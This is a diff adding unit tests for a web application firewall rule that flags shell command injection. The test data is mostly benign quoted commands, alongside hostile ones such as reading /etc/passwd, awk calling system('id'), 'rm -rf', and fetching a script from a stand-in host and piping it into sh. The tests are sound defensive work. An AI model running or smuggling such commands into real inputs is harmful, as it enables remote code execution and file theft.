@@ -141,3 +141,38 @@ describe('a command word with no argument where the value ends', () => {
     for (const v of ['x | sh', 'name | bash', 'x & id', 'x; whoami', 'x & uname', 'x && ls']) expect(at(v, 1), v).toEqual(['waf.rce.command-chain'])
   })
 })
+
+describe('a command line quoted in a message', () => {
+  const at = (v: string, level: 2 | 3): string[] => rulesAt(v, level, 'json')
+
+  it('is a fenced code block with text outside it: level 3 only, the chain and $(…) within it too', () => {
+    for (const v of ['Same problem here.\n\n```\nping -c 4 8.8.8.8; nslookup shop.example\n```\n\nHTH', 'Quick question:\n\n```bash\ndocker run -d -v $(pwd)/html:/usr/share/nginx/html nginx\n```', 'Setup:\n```\ncat /etc/os-release\n```\nEdit: typo']) {
+      expect(at(v, 2), v).toEqual([])
+      expect(at(v, 3), v).toHaveLength(1)
+    }
+  })
+
+  it('is a chain inside a sentence or on a line after one: level 3 only', () => {
+    for (const v of ['Q: The instructions say to run Get-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf - is that right for v2?', 'Tried ls -la ~/.ssh && chmod 600 ~/.ssh/id_ed25519 as the manual says -- no luck.', 'For anyone wondering, I used this:\n\ntail -f /var/log/nginx/error.log | grep -i upstream\n\nand it was fine.', 'The guide says to run docker run -v $(pwd)/html:/srv nginx and then open the page']) {
+      expect(at(v, 2), v).toEqual([])
+      expect(at(v, 3), v).toHaveLength(1)
+    }
+  })
+
+  it('still counts when no text surrounds it, the fence is the whole value or a download is piped into an interpreter', () => {
+    for (const v of ['```\nid\n```', 'x; cat /etc/passwd', 'ps aux | grep node | xargs kill', 'John Smith; wget http://e.example/a.sh -O /tmp/a', 'Please see the output below:\ncurl http://e.example/a.sh | sh', 'the guide says to run curl http://e.example/a.sh | sh', 'the guide says to run this for me: x$(id) and then reboot']) {
+      expect(at(v, 2), v).not.toEqual([])
+    }
+  })
+})
+
+describe('a command that needs an operand, given none where the value ends', () => {
+  it('closes a list or a title (Bash Cookbook: cat, grep & awk), at every level', () => {
+    for (const v of ['Bash Cookbook: cat, grep & awk', 'Sed & Awk; sed', 'copy | paste | rm', 'x && touch']) expect(rulesAt(v, 3, 'arg'), v).toEqual([])
+  })
+
+  it('still runs with an operand', () => {
+    for (const v of ['x & awk BEGIN{system("id")}', 'x; sed -n p /etc/passwd', 'x; rm -rf /tmp/x', 'x && chmod +x /tmp/a']) expect(rulesAt(v, 2, 'arg'), v).toEqual(['waf.rce.command-chain'])
+  })
+})
+
